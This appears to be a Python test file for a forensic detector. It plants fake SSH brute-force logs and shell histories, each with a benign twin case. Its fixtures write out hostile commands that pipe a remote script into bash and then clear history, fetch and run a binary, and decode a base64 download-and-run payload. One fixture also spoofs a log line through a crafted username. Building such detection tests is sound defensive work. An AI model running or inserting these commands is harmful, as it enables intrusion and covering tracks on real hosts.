"""How it got in: guessed passwords in every kind of log, and what was typed afterwards."""

from __future__ import annotations

import bz2
import datetime
import gzip
import lzma
import os
import time

from tables.host.logins.utmp import LAYOUT
from tests.lab.case import case
from tests.lab.room import Planted, Room
from tests.support.journal_writer import journal

# Every attack comes from an address of its own, so that a row names its case.
_GUESSER = "203.0.113.{}"
_OFFICE = "198.51.100.{}"


def _traditional(moment: float) -> str:
    return datetime.datetime.fromtimestamp(moment, datetime.timezone.utc).strftime("%b %e %H:%M:%S")


def _precise(moment: float) -> str:
    return datetime.datetime.fromtimestamp(moment, datetime.timezone.utc).isoformat(timespec="microseconds")


def failed(address: str, user: str, port: int = 40000) -> str:
    """What sshd logs for a wrong password."""
    return f"Failed password for {user} from {address} port {port} ssh2"


def accepted(address: str, user: str, port: int = 41000, method: str = "password") -> str:
    """What sshd logs for a login."""
    key = ": ED25519 SHA256:QmFzZTY0" if method == "publickey" else ""
    return f"Accepted {method} for {user} from {address} port {port} ssh2{key}"


def guessing(address: str, times: int = 30, user: str = "root") -> list[str]:
    """One wrong password after the other."""
    return [failed(address, user, 40000 + number) for number in range(times)]


def log(messages: list[str], ago: int = 600, program: str = "sshd", is_precise: bool = False, every: int = 1) -> bytes:
    """The lines of a syslog file, the first `ago` seconds old, one `every` so many seconds."""
    start = time.time() - ago
    write = _precise if is_precise else _traditional
    lines = (f"{write(start + number * every)} web {program}[{900 + number}]: {text}" for number, text in enumerate(messages))
    return "".join(line + "\n" for line in lines).encode()


def keep(room: Room, path: str, data: bytes, ago: int = 0) -> None:
    """Write a log whose last change was `ago` seconds before now."""
    room.write(path, data, 0o640)
    moment = time.time() - ago
    os.utime(path, (moment, moment))


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_auth_log(room: Room) -> Planted:
    """a guessed root password in Debian's auth.log."""
    address = _GUESSER.format(10)
    keep(room, "/var/log/auth.log", log([*guessing(address), accepted(address, "root")]))
    return {"remote_address": address}


@guessed_in_auth_log.twin
def _(room: Room) -> Planted:
    """an administrator who mistypes twice and then gets in."""
    address = _OFFICE.format(10)
    keep(room, "/var/log/auth.log", log([failed(address, "admin"), failed(address, "admin"), accepted(address, "admin")]))
    return {"remote_address": address}


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_rotated_log(room: Room) -> Planted:
    """guessing in auth.log.1 that got in after the log was rotated."""
    address = _GUESSER.format(11)
    keep(room, "/var/log/auth.log.1", log(guessing(address), ago=9000, is_precise=True), ago=8000)
    keep(room, "/var/log/auth.log", log([accepted(address, "deploy")], is_precise=True))
    return {"remote_address": address}


@guessed_in_rotated_log.twin
def _(room: Room) -> Planted:
    """guessing that never got in."""
    address = _OFFICE.format(11)
    keep(room, "/var/log/auth.log.1", log(guessing(address, 300), ago=9000, is_precise=True), ago=8000)
    return {"remote_address": address}


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_gzipped_log(room: Room) -> Planted:
    """guessing over many names in a gzipped log of Debian's."""
    address = _GUESSER.format(12)
    names = [f"invalid user {name}" for name in ("admin", "oracle", "test", "ubuntu", "pi", "git", "ftp", "guest", "user", "www")]
    messages = [failed(address, name, 40000 + number) for number, name in enumerate([*names, "postgres", "backup"])]
    keep(room, "/var/log/auth.log.2.gz", gzip.compress(log([*messages, accepted(address, "postgres")], ago=90000)), ago=86400)
    return {"remote_address": address}


@guessed_in_gzipped_log.twin
def _(room: Room) -> Planted:
    """a backup that logs in by key while a monitoring probe fails from the same address."""
    address = _OFFICE.format(12)
    messages = []
    for number in range(200):
        messages += [failed(address, "nagios", 42000 + number), accepted(address, "backup", 45000 + number, "publickey")]
    keep(room, "/var/log/auth.log.2.gz", gzip.compress(log(messages, ago=90000)), ago=86400)
    return {"remote_address": address}


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_secure(room: Room) -> Planted:
    """guessing that rsyslog shortened to `message repeated` in EL's secure."""
    address = _GUESSER.format(13)
    messages = [f"message repeated 12 times: [ {failed(address, 'root')}]", accepted(address, "root")]
    keep(room, "/var/log/secure", log(messages))
    return {"remote_address": address}


@guessed_in_secure.twin
def _(room: Room) -> Planted:
    """a program that tries an old password once an hour."""
    address = _OFFICE.format(13)
    messages = [failed(address, "svc-report", 40000 + number) for number in range(20)]
    keep(room, "/var/log/secure", log([*messages, accepted(address, "admin")], ago=80000, every=3600))
    return {"remote_address": address}


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_dated_log(room: Room) -> Planted:
    """guessing against sshd-session in EL's rotated, compressed secure logs."""
    address = _GUESSER.format(14)
    messages = [*guessing(address), accepted(address, "root", method="keyboard-interactive/pam")]
    keep(room, "/var/log/secure-20261108.xz", lzma.compress(log(messages, ago=9000, program="sshd-session")), ago=8000)
    other = _GUESSER.format(15)
    keep(
        room,
        "/var/log/secure-20261101.bz2",
        bz2.compress(log([*guessing(other), accepted(other, "ec2-user")], ago=9000)),
        ago=8000,
    )
    return {"remote_address": (address, other)}


@guessed_in_dated_log.twin
def _(room: Room) -> Planted:
    """a name that tells of a login which never was."""
    address = _OFFICE.format(14)
    lie = f"invalid user root from {address} port 22 ssh2\x20"
    messages = [f"Failed password for {lie}from {_OFFICE.format(15)} port {40000 + number} ssh2" for number in range(30)]
    messages.append(
        f"Invalid user Accepted password for root from {_OFFICE.format(15)} port 22 ssh2 from {_OFFICE.format(15)} port 9"
    )
    keep(room, "/var/log/secure-20261108.xz", lzma.compress(log(messages, ago=9000)), ago=8000)
    return {"remote_address": address}


def _entries(messages: list[str], uid: str = "0", ago: int = 900) -> list[tuple[int, dict[str, str]]]:
    start = int(time.time()) - ago
    return [(start + at, {"_COMM": "sshd", "_UID": uid, "MESSAGE": text, "_PID": str(at)}) for at, text in enumerate(messages)]


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_journal(room: Room) -> Planted:
    """a guessed password on a host that has only a journal."""
    address = _GUESSER.format(16)
    folder = "/var/log/journal/0123456789abcdef0123456789abcdef"
    room.write(f"{folder}/system.journal", journal(_entries([*guessing(address), accepted(address, "root")])), 0o640)
    return {"remote_address": address}


@guessed_in_journal.twin
def _(room: Room) -> Planted:
    """a user's program that calls itself sshd and tells the journal of logins."""
    address = _OFFICE.format(16)
    entries = _entries([*guessing(address), accepted(address, "root")], uid="1000", ago=200_000)
    room.write("/run/log/journal/0123456789abcdef0123456789abcdef/system.journal", journal(entries, is_compact=True), 0o640)
    return {"remote_address": address}


def _record(kind: int, user: str, address: str, moment: float, tty: str = "ssh:notty") -> bytes:
    return LAYOUT.pack(kind, 4242, tty.encode(), b"", user.encode(), address.encode(), 0, int(moment))


@case(17, brute_force_login_succeeded="remote_address")
def guessed_in_btmp(room: Room) -> Planted:
    """guessing in btmp and the login in wtmp, where there is no other log."""
    address = _GUESSER.format(17)
    start = time.time() - 300_000
    keep(room, "/var/log/btmp", b"".join(_record(6, "root", address, start + number) for number in range(20)))
    keep(room, "/var/log/wtmp", _record(7, "root", address, start + 60, "pts/0"))
    return {"remote_address": address}


@guessed_in_btmp.twin
def _(room: Room) -> Planted:
    """two slips of the finger in btmp before a login in wtmp."""
    address = _OFFICE.format(17)
    start = time.time() - 300_000
    keep(room, "/var/log/btmp", b"".join(_record(6, "admin", address, start + number) for number in range(2)))
    keep(room, "/var/log/wtmp", _record(7, "admin", address, start + 60, "pts/0"))
    return {"remote_address": address}


@case(17, shell_history_download_and_run="path")
def download_in_bash_history(room: Room) -> Planted:
    """a script from a bare address in root's bash history."""
    return {
        "path": room.write("/root/.bash_history", "w\nuname -a\ncurl -fsSL http://203.0.113.9/x.sh | bash\nhistory -c\n", 0o600)
    }


@download_in_bash_history.twin
def _(room: Room) -> Planted:
    """an administrator's history with installers and a search for miners."""
    commands = (
        "curl -fsSL https://get.docker.com | sh",
        "curl -fsSL http://10.0.0.5/bootstrap.sh | bash",
        "ps aux | grep -i xmrig",
        "wget http://203.0.113.80/release.tar.gz",
        "tar xf release.tar.gz",
        "kubectl get secret db -o jsonpath='{.data.password}' | base64 -d",
    )
    return {"path": room.write("/root/.bash_history", "\n".join(commands) + "\n", 0o600)}


@case(17, shell_history_download_and_run="path")
def download_then_run_in_zsh_history(room: Room) -> Planted:
    """a program that is fetched, made executable and started, line by line, in zsh's history."""
    lines = ("wget http://203.0.113.9/k", "chmod 777 k", "./k")
    text = "".join(f": {1795400000 + number}:0;{line}\n" for number, line in enumerate(lines))
    return {"path": room.write("/root/.zsh_history", text, 0o600)}


@download_then_run_in_zsh_history.twin
def _(room: Room) -> Planted:
    """a release that is fetched, built and started."""
    lines = ("wget https://example.org/tool-1.0.tar.gz", "tar xf tool-1.0.tar.gz", "cd tool-1.0", "make", "./tool")
    text = "".join(f": {1795400000 + number}:0;{line}\n" for number, line in enumerate(lines))
    return {"path": room.write("/root/.zsh_history", text, 0o600)}


@case(17, shell_history_download_and_run="path")
def payload_in_fish_history(room: Room) -> Planted:
    """a payload in base64 in fish's history."""
    text = "- cmd: echo Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjkvYQ== | base64 -d | bash\n  when: 1795400000\n"
    return {"path": room.write("/root/.local/share/fish/fish_history", text, 0o600)}


@payload_in_fish_history.twin
def _(room: Room) -> Planted:
    """a certificate that is decoded to be looked at."""
    text = "- cmd: base64 -d cert.b64 | openssl x509 -noout -text\n  when: 1795400000\n"
    return {"path": room.write("/root/.local/share/fish/fish_history", text, 0o600)}
